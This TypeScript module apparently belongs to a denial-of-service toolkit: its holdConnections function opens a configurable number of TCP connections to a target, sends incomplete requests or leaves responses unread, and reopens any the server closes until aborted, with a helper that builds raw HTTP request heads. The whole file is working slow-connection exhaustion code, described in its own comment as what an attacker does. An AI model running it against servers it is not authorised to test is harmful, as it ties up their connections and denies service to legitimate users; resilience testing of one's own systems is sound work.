// Connections that an attacker holds open without use: the written request is not whole, or the answer is not read.

import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Note, Target } from './attack.js';

const pauseBeforeNextMs = 100;

export interface HeldConnections {
  count: number;
  signal: AbortSignal;
  note: Note;
  /** Makes the bytes for a connection from its number, which goes up. */
  write: (number: number) => Buffer | string;
  localAddress?: (number: number) => string;
  /** True reads the data that the server sends. Default: false. */
  reads?: boolean;
}

/** Keeps `count` connections open until it is aborted, and replaces one that the other side closes. */
export async function holdConnections({ url }: Target, options: HeldConnections): Promise<void> {
  const { count, signal, note, reads = false } = options;
  const { hostname: host, port } = new URL(url);
  let number = 0;
  const hold = () =>
    new Promise<void>((resolve) => {
      const own = number++;
      const localAddress = options.localAddress?.(own);
      const socket = connect({ host, port: Number(port), ...(localAddress === undefined ? {} : { localAddress }) });
      socket.on('connect', () => socket.write(options.write(own)));
      socket.on('error', () => undefined);
      // A paused socket does not report that the other side has closed it; only a failed write does.
      if (reads) socket.resume();
      else socket.pause();
      const release = () => socket.destroy();
      signal.addEventListener('abort', release, { once: true });
      socket.on('close', () => {
        signal.removeEventListener('abort', release);
        if (!signal.aborted) note('closed');
        resolve();
      });
    });
  const holdInTurn = async () => {
    while (!signal.aborted) {
      await hold();
      await delay(pauseBeforeNextMs, undefined, { signal }).catch(() => undefined);
    }
  };
  await Promise.all(Array.from({ length: count }, holdInTurn));
}

/** A request's head as it goes over the wire. */
export function headOf(method: string, path: string, headers: Record<string, string | number>): string {
  const lines = Object.entries({ host: 'localhost', ...headers }).map(([name, value]) => `${name}: ${value}`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`;
}
